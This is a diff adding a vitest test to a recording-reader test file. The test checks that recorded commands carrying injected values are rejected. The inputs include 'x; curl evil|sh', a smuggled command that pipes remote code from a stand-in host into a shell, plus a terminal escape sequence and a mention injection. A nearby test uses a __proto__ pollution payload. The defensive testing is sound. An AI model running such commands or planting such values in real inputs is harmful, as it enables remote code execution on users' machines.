@@ -3,6 +3,7 @@ import { mkdirSync, truncateSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, test } from 'vitest';
 import { readOwnRecording, readRecording } from '../../src/recording/read.ts';
+import { ownFile } from '../helpers/recorded.ts';
 import { storeFolder } from '../helpers/rig.ts';
 
 /** As a browser saves one request: with members that HAR has no need of, and without some that it has. */
@@ -105,6 +106,20 @@ describe('a recording is read', () => {
       });
     }
   });
+
+  test.each(['x; curl evil|sh', 'jekimo login\n- @everyone', 'jekimo\u001b]0;', 'jekimo login --yes', ''])(
+    'S32: a recording of %j, which explain would give to type again, is none',
+    async (command) => {
+      const own = ownFile({ command: 'jekimo login', milliseconds: 1, verdict: { exitCode: 0 } });
+      await expect(readRecording(file(own))).resolves.toBeDefined();
+      await expect(
+        readRecording(file(own.replace('"jekimo login"', JSON.stringify(command)))),
+      ).rejects.toMatchObject({
+        kind: 'usage',
+        message: expect.stringContaining('"log._authrig.command"') as string,
+      });
+    },
+  );
 
   test('S17: no name in a file reaches a prototype', async () => {
     const text = JSON.stringify(browsers).replace('"pages"', '"__proto__":{"polluted":true},"pages"');
